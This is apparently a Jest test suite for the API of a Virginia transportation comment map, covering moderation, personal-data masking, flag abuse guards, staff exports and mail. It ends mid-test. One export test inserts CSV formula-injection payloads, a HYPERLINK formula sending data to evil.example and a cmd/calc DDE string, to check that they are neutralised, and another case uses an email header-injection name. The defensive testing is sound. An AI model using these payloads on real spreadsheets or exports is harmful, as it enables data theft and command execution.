/** @jest-environment node */
import fs from 'node:fs';
import path from 'node:path';
import { db } from '@/lib/server/db/knex';
import { staffQueue } from '@/lib/server/services/comments';
import { resetEnvCache } from '@/lib/server/env';
import { runJobsNow } from '@/lib/server/runtime/jobs';
import * as deleteInteraction from '@/pages/api/comment/delete-comment-interaction';
import * as exportRoute from '@/pages/api/comment/export';
import * as getAll from '@/pages/api/comment/get-all-comments';
import * as getOne from '@/pages/api/comment/get-comment';
import * as insertComment from '@/pages/api/comment/insert-comment';
import * as insertInteraction from '@/pages/api/comment/insert-comment-interaction';
import * as moderate from '@/pages/api/comment/moderate-comment';
import * as similar from '@/pages/api/comment/similar-comments';
import * as visitorRoute from '@/pages/api/comment/visitor';
import * as templates from '@/pages/api/comment/templates';
import * as respond from '@/pages/api/comment/update-comment-response-and-category';
import * as alertMail from '@/pages/api/email/comment-alert';
import * as responseMail from '@/pages/api/email/comment-response';
import { callApi, type CallOptions, type RouteModule } from '../helpers/apiMock';
import { DEMO, sessionCookie, userId } from '../helpers/session';
import { sessionUser } from '@/lib/server/services/people';
import { useTempDatabase } from '../helpers/tempDb';

let dir: string;
let cleanup: () => Promise<void>;
beforeAll(async () => {
  process.env.TRUSTED_PROXY_HOPS = '1'; // each test client sends its own address
  ({ dir, cleanup } = await useTempDatabase());
}, 60_000);
afterAll(async () => {
  delete process.env.TRUSTED_PROXY_HOPS;
  await cleanup();
});
afterEach(() => jest.restoreAllMocks());

/** Richmond city hall: inside Richmond (city), VDOT Richmond District. */
const RICHMOND = { latitude: 37.5407, longitude: -77.4338 };
const VALID = {
  ...RICHMOND,
  category: 'safety',
  comment: 'The crossing at 9th and Broad needs a longer walk signal for people with strollers.',
  name: 'Ada Lovelace',
  email: 'ada@example.com',
  consent: true,
  website: '',
};

let address = 0;
const ip = () => ({ 'x-forwarded-for': `198.51.100.${++address % 250}`, 'x-test-n': String(address) });
const call = (mod: RouteModule, options: CallOptions = {}) =>
  callApi(mod, { ...options, headers: { ...ip(), ...(options.headers ?? {}) } });
const post = (mod: RouteModule, body: unknown, headers: Record<string, string> = {}) =>
  call(mod, { method: 'POST', body, headers });
const staff = async () => (await sessionCookie(DEMO.reviewer)) as unknown as Record<string, string>;

const outbox = () => path.join(dir, 'outbox');
const mails = () =>
  fs.existsSync(outbox())
    ? fs
        .readdirSync(outbox())
        .filter((f) => f.endsWith('.eml'))
        .sort()
        .map((f) => fs.readFileSync(path.join(outbox(), f), 'utf8').replace(/\r\n[ \t]+/g, ' '))
    : [];
/** Quoted-printable soft line breaks joined, so long lines can be searched. */
const plain = (eml: string) => eml.replace(/=\r\n/g, '').replace(/=3D/g, '=');

const cookieOf = (res: { headers: Headers }) => {
  const set = res.headers.get('set-cookie') ?? '';
  const m = /vtrans_visitor=([^;]+)/.exec(set);
  return m ? { cookie: `vtrans_visitor=${m[1]}` } : ({} as Record<string, string>);
};
/** A cookie the browser made up (or kept from before ids were signed): fine for agreeing, not for flagging. */
const newVisitor = () => ({ cookie: `vtrans_visitor=${crypto.randomUUID()}` });
/** A visitor cookie the site issued, as the map gets it before someone flags (GET /api/comment/visitor). */
async function issuedVisitor(): Promise<Record<string, string>> {
  const res = await call(visitorRoute);
  expect(res.json).toEqual({ ready: true });
  return cookieOf(res);
}

async function create(change: Record<string, unknown> = {}) {
  const res = await post(insertComment, { ...VALID, ...change });
  expect(res.status).toBe(201);
  return (res.json as { id: number }).id;
}
async function approve(id: number) {
  const res = await post(moderate, { id, action: 'approve' }, await staff());
  expect(res.status).toBe(200);
}

describe('personal information in a published comment (issue 57 §3)', () => {
  it('is hidden in every public answer (the map list, one comment, the nearby ones); staff read it as written', async () => {
    const written =
      'Call me at (804) 555-0134 or mail jo.smith@example.org; I live at 1401 E Broad St and the crossing is unsafe.';
    const id = await create({ comment: written, name: 'jo.smith@example.org' });
    await approve(id);
    const hidden =
      'Call me at [phone hidden] or mail [email hidden]; I live at [street address hidden] and the crossing is unsafe.';
    const list = (await call(getAll)).json as Array<{ id: number; comment: string; name: string | null }>;
    expect(list.find((c) => c.id === id)).toMatchObject({ comment: hidden, name: '[email hidden]' });
    expect((await call(getOne, { query: { id: String(id) } })).json).toMatchObject({ comment: hidden });
    const near = (
      await call(similar, {
        query: {
          latitude: String(RICHMOND.latitude),
          longitude: String(RICHMOND.longitude),
          text: 'crossing',
        },
      })
    ).json as Array<{ id: number; comment: string }>;
    expect(near.find((c) => c.id === id)?.comment).toBe(hidden);
    for (const answer of [JSON.stringify(list), JSON.stringify(near)]) {
      expect(answer).not.toContain('555-0134');
      expect(answer).not.toContain('jo.smith@');
      expect(answer).not.toContain('1401 E Broad');
    }
    // The staff export keeps what was written (staff only).
    const csv = (await call(exportRoute, { query: { format: 'csv' }, headers: await staff() })).text;
    expect(csv).toContain('(804) 555-0134');
  });
});

describe('POST /api/comment/insert-comment', () => {
  it('201: stores the comment waiting for review (pre-moderation), with district and locality, and sets the visitor cookie', async () => {
    const res = await post(insertComment, VALID);
    expect(res.status).toBe(201);
    expect(res.json).toEqual({ id: expect.any(Number), status: 'pending', held: [] });
    expect(res.headers.get('set-cookie')).toMatch(
      /^vtrans_visitor=[0-9a-f-]{36}\.[\w-]{43}; Path=\/; Max-Age=31536000; HttpOnly; SameSite=Lax$/,
    );
    const row = await (
      await db()
    )('comments')
      .where({ id: (res.json as { id: number }).id })
      .first();
    expect(row).toMatchObject({
      status: 'pending',
      category: 'safety',
      author_email: 'ada@example.com',
      locality: 'Richmond (city)',
      district: 'Richmond',
    });
    expect(row.visitor_key).toMatch(/^[0-9a-f]{64}$/);
    const trail = await (await db())('comment_audit').where({ comment_id: row.id });
    expect(trail.map((a: { action: string }) => a.action)).toEqual(['submitted']);
  });

  it.each([
    ['link', { comment: 'See www.example.com for the full list of crashes here.' }],
    ['email', { comment: 'Write to me at someone@example.org about this crossing please.' }],
    ['word', { comment: 'This shit intersection needs a signal before someone is hurt.' }],
  ])('holds a comment with a %s and records why', async (reason, change) => {
    const res = await post(insertComment, { ...VALID, ...change });
    expect(res.json).toMatchObject({ status: 'pending', held: [reason] });
    const row = await (
      await db()
    )('comments')
      .where({ id: (res.json as { id: number }).id })
      .first();
    expect(row.hold_reasons).toBe(reason);
  });

  it('post-moderation publishes a clean comment at once, but still holds one with a link or a listed word', async () => {
    process.env.COMMENT_MODERATION = 'post';
    process.env.COMMENT_HOLD_WORDS = 'potholeville';
    resetEnvCache();
    try {
      expect((await post(insertComment, VALID)).json).toMatchObject({ status: 'approved' });
      expect(
        (await post(insertComment, { ...VALID, comment: 'Go to https://spam.example now' })).json,
      ).toMatchObject({
        status: 'pending',
        held: ['link'],
      });
      expect(
        (await post(insertComment, { ...VALID, comment: 'Welcome to Potholeville, the worst road here.' }))
          .json,
      ).toMatchObject({ status: 'pending', held: ['word'] });
    } finally {
      delete process.env.COMMENT_MODERATION;
      delete process.env.COMMENT_HOLD_WORDS;
      resetEnvCache();
    }
  });

  it.each([
    ['consent', 'not given', { consent: false }],
    ['consent', 'missing', { consent: undefined }],
    ['category', 'not one of the list', { category: 'weather' }],
    ['comment', 'too short', { comment: 'short' }],
    ['comment', 'too long', { comment: 'x'.repeat(2001) }],
    ['latitude', 'outside Virginia', { latitude: 40.7 }],
    ['longitude', 'not a number', { longitude: 'west' }],
    ['email', 'not an address', { email: 'nope' }],
    ['name', 'several lines', { name: 'Ada\r\nBcc: x@example.com' }],
    ['layerKey', 'missing with a featureId', { featureId: '42' }],
    ['', 'carrying an unknown field', { status: 'approved' }],
  ])('400 naming %s when it is %s; nothing stored', async (field, _why, change) => {
    const before = Number((await (await db())('comments').count({ n: '*' }))[0].n);
    const res = await post(insertComment, { ...VALID, ...change });
    expect(res.status).toBe(400);
    expect(res.json).toMatchObject({ error: { code: 'bad_request' } });
    if (field) expect(res.json).toMatchObject({ error: { field } });
    expect(Number((await (await db())('comments').count({ n: '*' }))[0].n)).toBe(before);
  });

  it('415 for a body that is not JSON, 405 for GET', async () => {
    const res = await call(insertComment, {
      method: 'POST',
      body: 'comment=hi',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
    });
    expect(res.status).toBe(415);
    expect((await call(insertComment)).status).toBe(405);
  });

  it('honeypot filled: answered like a success, nothing stored', async () => {
    const before = Number((await (await db())('comments').count({ n: '*' }))[0].n);
    const res = await post(insertComment, { ...VALID, website: 'https://spam.example' });
    expect(res.status).toBe(201);
    expect(Number((await (await db())('comments').count({ n: '*' }))[0].n)).toBe(before);
  });

  it('429 after 20 comments a minute from one client', async () => {
    const headers = { 'x-forwarded-for': '203.0.113.77' };
    const statuses: number[] = [];
    // The limit counts per clock minute (a fixed window): one fixed minute, so the window cannot roll over
    // between the 20th and the 21st comment however long they take.
    const clock = jest.spyOn(Date, 'now').mockReturnValue(Date.UTC(2026, 10, 22, 12, 0, 30));
    try {
      for (let i = 0; i < 21; i++) statuses.push((await post(insertComment, VALID, headers)).status);
    } finally {
      clock.mockRestore();
    }
    expect(statuses.slice(0, 20).every((s) => s === 201)).toBe(true);
    expect(statuses[20]).toBe(429);
  });
});

describe('public reads: get-all-comments, get-comment, similar-comments', () => {
  let approvedId: number;
  let pendingId: number;
  beforeAll(async () => {
    approvedId = await create({
      category: 'transit',
      comment: 'Bus stop on Broad Street has no shelter or bench.',
    });
    await approve(approvedId);
    pendingId = await create({
      category: 'transit',
      comment: 'Waiting comment about a bus shelter on Broad.',
    });
  });

  it('lists only approved comments, never an email or a visitor key, and never shared-cached', async () => {
    const res = await call(getAll);
    expect(res.status).toBe(200);
    expect(res.headers.get('cache-control')).toBe('private, no-store');
    const list = res.json as Array<Record<string, unknown>>;
    expect(list.map((c) => c.id)).toContain(approvedId);
    expect(list.map((c) => c.id)).not.toContain(pendingId);
    expect(res.text).not.toMatch(/ada@example\.com|author_email|visitor_key|"email"/);
    expect(list.find((c) => c.id === approvedId)).toMatchObject({
      category: 'transit',
      name: 'Ada Lovelace',
      district: 'Richmond',
      locality: 'Richmond (city)',
      response: null,
      agrees: 0,
      viewer: { agreed: false, flagged: false },
    });
  });

  it('filters by category, district, answered and bounding box', async () => {
    const ids = async (query: Record<string, string>) =>
      ((await call(getAll, { query })).json as Array<{ id: number }>).map((c) => c.id);
    expect(await ids({ category: 'transit' })).toContain(approvedId);
    expect(await ids({ category: 'freight' })).not.toContain(approvedId);
    expect(await ids({ district: 'Richmond' })).toContain(approvedId);
    expect(await ids({ district: 'Salem' })).not.toContain(approvedId);
    expect(await ids({ answered: 'no' })).toContain(approvedId);
    expect(await ids({ answered: 'yes' })).not.toContain(approvedId);
    expect(await ids({ bbox: '-77.5,37.5,-77.4,37.6' })).toContain(approvedId);
    expect(await ids({ bbox: '-80,37,-79,38' })).not.toContain(approvedId);
  });

  it.each([
    [{ category: 'weather' }, 'category'],
    [{ answered: 'maybe' }, 'answered'],
    [{ bbox: '1,2,3' }, 'bbox'],
  ])('400 for a bad filter %j', async (query, field) => {
    const res = await call(getAll, { query });
    expect(res.status).toBe(400);
    expect(res.json).toMatchObject({ error: { field } });
  });

  it('get-comment: the approved one; 404 for one waiting for review or unknown; 400 for a bad id', async () => {
    const ok = await call(getOne, { query: { id: String(approvedId) } });
    expect(ok.status).toBe(200);
    expect(ok.json).toMatchObject({ id: approvedId, category: 'transit' });
    expect(ok.text).not.toContain('ada@example.com');
    expect((await call(getOne, { query: { id: String(pendingId) } })).status).toBe(404);
    expect((await call(getOne, { query: { id: '999999' } })).status).toBe(404);
    const bad = await call(getOne, { query: { id: 'abc' } });
    expect(bad.status).toBe(400);
    expect(bad.json).toMatchObject({ error: { field: 'id' } });
  });

  it('similar-comments: a published comment within 500 m, most similar first; nothing far away', async () => {
    const near = await call(similar, {
      query: {
        latitude: '37.5410',
        longitude: '-77.4340',
        category: 'transit',
        text: 'no bus shelter on Broad',
      },
    });
    expect(near.status).toBe(200);
    const list = near.json as Array<{ id: number; distanceM: number; similarity: number }>;
    expect(list[0]).toMatchObject({ id: approvedId });
    expect(list[0]!.distanceM).toBeLessThan(100);
    expect(list[0]!.similarity).toBeGreaterThan(0.3);
    expect(list.map((c) => c.id)).not.toContain(pendingId);
    const far = await call(similar, { query: { latitude: '37.27', longitude: '-79.94' } });
    expect((far.json as unknown[]).length).toBe(0);
    expect((await call(similar, { query: { longitude: '-77.4' } })).status).toBe(400);
  });
});

describe('interactions: agree and flag, one of each per visitor', () => {
  let id: number;
  beforeAll(async () => {
    id = await create({ category: 'congestion', comment: 'Route 1 backs up every afternoon at the bridge.' });
    await approve(id);
  });

  it('an agree counts once per visitor, shows in the visitor’s view, and can be taken back', async () => {
    const first = await post(insertInteraction, { id, type: 'agree' });
    expect(first.status).toBe(200);
    expect(first.json).toEqual({ id, type: 'agree', count: 1, held: false });
    const visitor = cookieOf(first);
    expect(visitor.cookie).toBeDefined();
    expect((await post(insertInteraction, { id, type: 'agree' }, visitor)).json).toMatchObject({ count: 1 });
    expect((await post(insertInteraction, { id, type: 'agree' }, newVisitor())).json).toMatchObject({
      count: 2,
    });
    const mine = await call(getOne, { query: { id: String(id) }, headers: visitor });
    expect(mine.json).toMatchObject({ agrees: 2, viewer: { agreed: true, flagged: false } });
    expect((await post(deleteInteraction, { id, type: 'agree' }, visitor)).json).toEqual({
      id,
      type: 'agree',
      count: 1,
    });
    expect((await call(getOne, { query: { id: String(id) }, headers: visitor })).json).toMatchObject({
      agrees: 1,
      viewer: { agreed: false },
    });
  });

  it('the third flag from different visitors sends the comment back to the queue, with an audit entry', async () => {
    const reasons = ['spam', 'offensive', 'off-topic'];
    const answers = [];
    for (const reason of reasons)
      answers.push((await post(insertInteraction, { id, type: 'flag', reason }, await issuedVisitor())).json);
    expect(answers.map((a) => (a as { held: boolean }).held)).toEqual([false, false, true]);
    const row = await (await db())('comments').where({ id }).first();
    expect(row).toMatchObject({ status: 'pending', hold_reasons: 'flagged' });
    expect((await call(getOne, { query: { id: String(id) } })).status).toBe(404);
    const actions = (await (await db())('comment_audit').where({ comment_id: id })).map(
      (a: { action: string }) => a.action,
    );
    expect(actions).toEqual(expect.arrayContaining(['flagged', 'held']));
    await approve(id);
  });

  it.each([
    [{ id: 1, type: 'flag' }, 'reason'],
    [{ id: 1, type: 'flag', reason: 'boring' }, 'reason'],
    [{ id: 1, type: 'like' }, 'type'],
    [{ id: -1, type: 'agree' }, 'id'],
  ])('400 for %j', async (body, field) => {
    const res = await post(insertInteraction, body);
    expect(res.status).toBe(400);
    expect(res.json).toMatchObject({ error: { field } });
  });

  it('404 on a comment that is not published; 400 on a bad delete', async () => {
    const waiting = await create();
    expect((await post(insertInteraction, { id: waiting, type: 'agree' })).status).toBe(404);
    expect((await post(deleteInteraction, { id: waiting, type: 'agree' })).status).toBe(404);
    expect((await post(deleteInteraction, { id, type: 'like' })).status).toBe(400);
  });
});

describe('flags: abuse guards', () => {
  let id: number;
  beforeEach(async () => {
    id = await create({ category: 'transit', comment: 'The 7 bus should run every 15 minutes on Sundays.' });
    await approve(id);
  });
  const flag = (headers: Record<string, string>, reason = 'spam') =>
    post(insertInteraction, { id, type: 'flag', reason }, headers);
  const status = async () => (await (await db())('comments').where({ id }).first()).status as string;
  const flagRows = async () =>
    (await db())('comment_interactions').where({ comment_id: id, interaction: 'flag' });

  it('GET /api/comment/visitor issues a signed visitor cookie once, private and never cached', async () => {
    const first = await call(visitorRoute);
    expect(first.status).toBe(200);
    expect(first.headers.get('cache-control')).toBe('private, no-store');
    expect(first.headers.get('set-cookie')).toMatch(/^vtrans_visitor=[0-9a-f-]{36}\.[\w-]{43}; Path=\//);
    const again = await call(visitorRoute, { headers: cookieOf(first) });
    expect(again.headers.get('set-cookie')).toBeNull();
    // An unsigned id from before ids were signed is re-issued signed, with the same id.
    const legacy = crypto.randomUUID();
    const upgraded = await call(visitorRoute, { headers: { cookie: `vtrans_visitor=${legacy}` } });
    expect(upgraded.headers.get('set-cookie')).toMatch(new RegExp(`^vtrans_visitor=${legacy}\\.[\\w-]{43};`));
  });

  it('a flag without a visitor cookie is refused (403: reload the page), and nothing is stored', async () => {
    for (let i = 0; i < 4; i++) {
      const res = await flag({});
      expect(res.status).toBe(403);
      expect(res.json).toMatchObject({
        error: { code: 'forbidden', message: expect.stringMatching(/Reload the page/) },
      });
      expect(res.headers.get('set-cookie')).toBeNull();
    }
    expect(await flagRows()).toHaveLength(0);
    expect(await status()).toBe('approved');
  });

  it('a forged visitor cookie is refused: made up, unsigned, badly signed, or another id’s signature', async () => {
    const real = (await issuedVisitor()).cookie!.replace('vtrans_visitor=', '');
    const [, signature] = real.split('.');
    for (const forged of [
      crypto.randomUUID(),
      `${crypto.randomUUID()}.${'A'.repeat(43)}`,
      `${crypto.randomUUID()}.${signature}`,
      `${real}x`,
      'not-a-uuid',
    ]) {
      expect((await flag({ cookie: `vtrans_visitor=${forged}` })).status).toBe(403);
    }
    expect(await flagRows()).toHaveLength(0);
    expect((await flag({ cookie: `vtrans_visitor=${real}` })).status).toBe(200);
  });

  it('flags from one client address count once, however many issued cookies send them', async () => {
    const same = { 'x-forwarded-for': '192.0.2.77' };
    const answers = [];
    for (let i = 0; i < 5; i++) answers.push((await flag({ ...(await issuedVisitor()), ...same })).json);
    expect(answers.map((a) => (a as { count: number; held: boolean }).count)).toEqual([1, 1, 1, 1, 1]);
    expect(answers.every((a) => !(a as { held: boolean }).held)).toBe(true);
    expect(await status()).toBe('approved');
    // Stored as an HMAC of the address, never the address itself.
    const rows = await flagRows();
    expect(new Set(rows.map((r: { client_hash: string }) => r.client_hash)).size).toBe(1);
    expect(rows[0].client_hash).toMatch(/^[0-9a-f]{64}$/);
    expect(JSON.stringify(rows)).not.toContain('192.0.2.77');
    // IPv6 counts by /64 (one household gets a whole /64): two addresses in it are one; another /64 is another.
    const v6 = async (address: string) =>
      (await flag({ ...(await issuedVisitor()), 'x-forwarded-for': address })).json as {
        count: number;
        held: boolean;
      };
    expect(await v6('2001:db8:1:2::1')).toMatchObject({ count: 2, held: false });
    expect(await v6('2001:db8:1:2:ffff::9')).toMatchObject({ count: 2, held: false });
    expect(await v6('2001:db8:1:3::1')).toMatchObject({ count: 3, held: true });
    expect(await status()).toBe('pending');
  });

  it('re-approval clears the flags (kept in the audit trail) and marks it reviewed: later flags no longer hide it', async () => {
    for (const reason of ['spam', 'offensive', 'off-topic']) await flag(await issuedVisitor(), reason);
    expect(await status()).toBe('pending');
    await approve(id);
    expect(await status()).toBe('approved');
    expect(await flagRows()).toHaveLength(0);
    const row = await (await db())('comments').where({ id }).first();
    expect(row.reviewed_at).not.toBeNull();
    expect(row.hold_reasons ?? '').not.toContain('flagged');
    const trail = (await (await db())('comment_audit').where({ comment_id: id }).orderBy('id')) as Array<{
      action: string;
      note: string | null;
    }>;
    expect(trail.filter((a) => a.action === 'flagged')).toHaveLength(3);
    expect(trail.at(-1)).toMatchObject({
      action: 'flags cleared',
      note: expect.stringMatching(/^3 flags cleared \(Spam/),
    });

    // One more flag (the old attack), then many more from different addresses: recorded, shown, still published.
    const answers = [];
    for (let i = 0; i < 4; i++)
      answers.push((await flag(await issuedVisitor())).json as { count: number; held: boolean });
    expect(answers.map((a) => a.count)).toEqual([1, 2, 3, 4]);
    expect(answers.some((a) => a.held)).toBe(false);
    expect(await status()).toBe('approved');
    const reviewer = (await sessionUser(await userId(DEMO.reviewer), 0))!;
    const mine = (await staffQueue(reviewer)).find((c) => c.id === id);
    expect(mine).toMatchObject({ status: 'approved', flags: 4, reviewedAt: expect.any(String) });
    expect(mine?.flagReasons).toHaveLength(4);
  });
});

describe('staff: respond and categorise, moderate, templates, export', () => {
  it('a reviewer answers and re-categorises; the public sees the response and category', async () => {
    const id = await create({ category: 'other' });
    await approve(id);
    const res = await post(
      respond,
      { id, response: 'Thank you: this is recorded for the needs assessment.', category: 'bike-pedestrian' },
      await staff(),
    );
    expect(res.status).toBe(200);
    expect(res.headers.get('cache-control')).toBe('private, no-store');
    expect(res.json).toMatchObject({ id, category: 'bike-pedestrian', respondedAt: expect.any(String) });
    expect((await call(getOne, { query: { id: String(id) } })).json).toMatchObject({
      response: 'Thank you: this is recorded for the needs assessment.',
      category: 'bike-pedestrian',
    });
    const audit = await (await db())('comment_audit').where({ comment_id: id, action: 'responded' }).first();
    expect(audit.actor_label).toContain(DEMO.reviewer);
  });

  it('a public caller cannot respond (401), a submitter neither (403)', async () => {
    const body = { id: 1, response: 'x', category: 'safety' };
    expect((await post(respond, body)).status).toBe(401);
    expect(
      (await post(respond, body, (await sessionCookie(DEMO.submitter)) as unknown as Record<string, string>))
        .status,
    ).toBe(403);
    expect((await post(moderate, { id: 1, action: 'approve' })).status).toBe(401);
    expect((await call(templates)).status).toBe(401);
    expect((await call(exportRoute, { query: { format: 'csv' } })).status).toBe(401);
  });

  it.each([
    [{ id: 1, response: '', category: 'safety' }, 'response'],
    [{ id: 1, response: 'ok', category: 'weather' }, 'category'],
    [{ id: 'x', response: 'ok', category: 'safety' }, 'id'],
  ])('400 for %j', async (body, field) => {
    const res = await post(respond, body, await staff());
    expect(res.status).toBe(400);
    expect(res.json).toMatchObject({ error: { field } });
  });

  it('404 for an unknown comment', async () => {
    expect(
      (await post(respond, { id: 999999, response: 'ok', category: 'safety' }, await staff())).status,
    ).toBe(404);
    expect((await post(moderate, { id: 999999, action: 'approve' }, await staff())).status).toBe(404);
  });

  it('hide needs a note; hides without deleting, keeps the audit trail, mails the note to the author', async () => {
    const id = await create({ email: 'hidden.author@example.com' });
    await approve(id);
    const noNote = await post(moderate, { id, action: 'hide' }, await staff());
    expect(noNote.status).toBe(400);
    expect(noNote.json).toMatchObject({ error: { field: 'note' } });
    const before = mails().length;
    const res = await post(
      moderate,
      { id, action: 'hide', note: 'It names a member of staff.' },
      await staff(),
    );
    expect(res.json).toEqual({ id, status: 'hidden', noteQueued: true, responseQueued: false });
    const row = await (await db())('comments').where({ id }).first();
    expect(row).toMatchObject({ status: 'hidden', author_note: 'It names a member of staff.' });
    const trail = async () =>
      (await (await db())('comment_audit').where({ comment_id: id }).orderBy('id')).map(
        (a: { action: string }) => a.action,
      );
    // The note goes out as a job queued with the hiding; its "mailed" line follows when it is sent.
    expect(await trail()).toEqual(['submitted', 'approved', 'hidden']);
    await runJobsNow();
    expect(await trail()).toEqual(['submitted', 'approved', 'hidden', 'mailed']);
    const mail = plain(
      mails()
        .slice(before)
        .find((m) => m.includes('hidden.author@example.com'))!,
    );
    expect(mail).toContain('It names a member of staff.');
    expect((await call(getOne, { query: { id: String(id) } })).status).toBe(404);
    const answer = await post(respond, { id, response: 'x', category: 'safety' }, await staff());
    expect(answer.status).toBe(409);
  });

  it('a hiding whose note cannot be queued is not made (the hiding and its note happen together)', async () => {
    const id = await create({ email: 'unqueued.author@example.com' });
    await approve(id);
    const k = await db();
    await k.schema.renameTable('jobs', 'jobs_away');
    let res;
    try {
      res = await post(moderate, { id, action: 'hide', note: 'Off topic.' }, await staff());
    } finally {
      await k.schema.renameTable('jobs_away', 'jobs');
    }
    expect(res.status).toBe(500);
    expect(await k('comments').where({ id }).first()).toMatchObject({
      status: 'approved',
      author_note: null,
    });
    const trail = (await k('comment_audit').where({ comment_id: id }).orderBy('id')).map(
      (a: { action: string }) => a.action,
    );
    expect(trail).toEqual(['submitted', 'approved']);
  });

  it('templates: lists the saved answers and saves a new one; 400 without a title', async () => {
    const list = await call(templates, { headers: await staff() });
    expect(list.status).toBe(200);
    expect((list.json as Array<{ title: string }>).map((t) => t.title)).toContain('Passed to VDOT district');
    const saved = await post(
      templates,
      { title: 'Seasonal', body: 'We will check again in spring.' },
      await staff(),
    );
    expect(saved.status).toBe(201);
    expect(saved.json).toMatchObject({ id: expect.any(Number), title: 'Seasonal' });
    const bad = await post(templates, { title: '', body: 'x' }, await staff());
    expect(bad.status).toBe(400);
    expect(bad.json).toMatchObject({ error: { field: 'title' } });
  });

  it('exports every comment as CSV and GeoJSON with latitude/longitude, district and locality, never the email', async () => {
    const csv = await call(exportRoute, { query: { format: 'csv' }, headers: await staff() });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(csv.headers.get('content-disposition')).toMatch(
      /attachment; filename="vtrans-map-comments-\d{4}-\d{2}-\d{2}\.csv"/,
    );
    const lines = csv.text.replace(/^\uFEFF/, '').split('\n');
    expect(lines[0]).toBe(
      'id,status,category,comment,name,latitude,longitude,district,locality,layer_key,feature_id,agrees,flags,response,responded_at,created_at,illustrative',
    );
    expect(csv.text).toContain('37.5407,-77.4338,Richmond,Richmond (city)');
    // created_at in Virginia time with its zone, as staff read every other time.
    expect(lines[1]).toMatch(/,\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2} E[SD]T,(yes|no)$/);
    expect(csv.text).not.toContain('@example.com');
    const total = Number((await (await db())('comments').count({ n: '*' }))[0].n);
    const geo = await call(exportRoute, { query: { format: 'geojson' }, headers: await staff() });
    const fc = JSON.parse(geo.text) as {
      features: Array<{ geometry: { coordinates: number[] }; properties: Record<string, unknown> }>;
    };
    expect(fc.features).toHaveLength(total);
    expect(fc.features[0]!.geometry.coordinates).toEqual([-77.4338, 37.5407]);
    expect(fc.features[0]!.properties).toMatchObject({ district: 'Richmond', locality: 'Richmond (city)' });
    expect(geo.text).not.toContain('@example.com');
    const bad = await call(exportRoute, { query: { format: 'xlsx' }, headers: await staff() });
    expect(bad.status).toBe(400);
  });

  it('the CSV export neutralises formulas from an anonymous, still-pending comment', async () => {
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click here to see the crash data")';
    const id = await create({ comment: formula, name: '@SUM(1+1)*cmd|" /C calc"!A0' });
    const csv = await call(exportRoute, { query: { format: 'csv' }, headers: await staff() });
    const line = csv.text.split('\n').find((l) => l.startsWith(`${id},`));
    expect(line).toContain(
      `,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click here to see the crash data"")",`,
    );
    expect(line).toContain(`,"'@SUM(1+1)*cmd|"" /C calc""!A0",`);
    // Numbers stay numbers: the negative longitude is not quoted.
    expect(line).toContain(',37.5407,-77.4338,');
  });
});

describe('mail: comment-alert and comment-response', () => {
  it('new comments alert reviewers through the job queue: one mail at once, then one digest when the window ends', async () => {
    // Everything so far was alerted already or waits; start from a clean slate.
    await post(alertMail, {}, await staff());
    const k = await db();
    await k('jobs').where({ kind: 'comment-alerts' }).delete();
    await k('comments').update({ alerted_at: new Date(Date.now() - 3_600_000).toISOString() });
    const before = mails().length;
    const first = await create({ comment: 'First of several comments about the Mayo Bridge.' });
    expect(mails().length).toBe(before); // queued, not sent on the request
    await runJobsNow();
    const afterFirst = mails().slice(before);
    expect(afterFirst).toHaveLength(1);
    expect(afterFirst[0]).toMatch(/^To: .*\breviewer@example\.com\b/m); // every active reviewer
    expect(afterFirst[0]).toMatch(/^Subject: \[VTrans comments\] New Safety comment on the map$/m);
    expect(plain(afterFirst[0]!)).toContain(
      `#${first} Safety at Richmond (city), Richmond District (pending)`,
    );
    await create({ comment: 'Second comment about the Mayo Bridge deck.' });
    await create({ comment: 'Third comment about the Mayo Bridge lighting.' });
    await runJobsNow();
    expect(mails().length).toBe(before + 1); // inside the window: the two wait for the digest
    // One job waits for the window's end (two posts queued one job, which queued one delayed job).
    const waiting = await k('jobs').where({ kind: 'comment-alerts', status: 'queued' }).select('run_at');
    expect(waiting).toHaveLength(1);
    const lastAlert = String((await k('comments').max({ at: 'alerted_at' }).first())!.at);
    expect(Date.parse(String(waiting[0]!.run_at)) - Date.parse(lastAlert)).toBe(15 * 60_000);
    // The window passes: the delayed job sends one digest without a further comment or a reviewer's run.
    await k('comments')
      .whereNotNull('alerted_at')
      .update({ alerted_at: new Date(Date.now() - 16 * 60_000).toISOString() });
    await k('jobs')
      .where({ kind: 'comment-alerts', status: 'queued' })
      .update({ run_at: new Date().toISOString() });
    await runJobsNow();
    const digest = mails().slice(before + 1);
    expect(digest).toHaveLength(1);
    expect(digest[0]).toMatch(/^Subject: \[VTrans comments\] 2 new comments on the map$/m);
    expect(plain(digest[0]!)).toContain('/admin/comments');
    expect(await k('jobs').where({ kind: 'comment-alerts', status: 'queued' })).toHaveLength(0);
  });

  it('a reviewer can send the waiting comments at once', async () => {
    const k = await db();
    await k('comments').update({ alerted_at: new Date().toISOString() });
    await create({ comment: 'A comment inside the digest window.' });
    await create({ comment: 'Another comment inside the digest window.' });
    await runJobsNow();
    const before = mails().length;
    const res = await post(alertMail, {}, await staff());
    expect(res.json).toEqual({ comments: 2, recipients: 2, digest: true, waiting: false }); // the demo admin also reviews
    expect(mails()).toHaveLength(before + 1);
    expect((await post(alertMail, {}, await staff())).json).toMatchObject({ comments: 0 });
  });

  it('comment-response mails the commenter with a link to the comment on the map', async () => {
    const id = await create({ email: 'answer.me@example.com' });
    await approve(id);
    const early = await post(responseMail, { id }, await staff());
    expect(early.status).toBe(409); // no response yet
    await post(
      respond,
      { id, response: 'We have passed this to the district.', category: 'safety' },
      await staff(),
    );
    const before = mails().length;
    const res = await post(responseMail, { id }, await staff());
    expect(res.json).toEqual({ id, sent: true });
    const mail = plain(mails().slice(before)[0]!);
    expect(mail).toMatch(/^To: answer\.me@example\.com$/m);
    expect(mail).toContain('We have passed this to the district.');
    expect(mail).toContain(`http://localhost:3000/interactvtrans/map-explorer?comment=${id}`);
  });

  it.each([
    ['answered, then approved', ['respond', 'approve']],
    ['approved, then answered', ['approve', 'respond']],
  ])('the commenter is mailed the answer once it is public: %s', async (_order, steps) => {
    const email = `order.${steps[0]}@example.com`;
    const id = await create({ email });
    const answer = 'The district will review the signal.';
    const queued: boolean[] = [];
    for (const step of steps) {
      if (step === 'respond') {
        const r = await post(respond, { id, response: answer, category: 'safety' }, await staff());
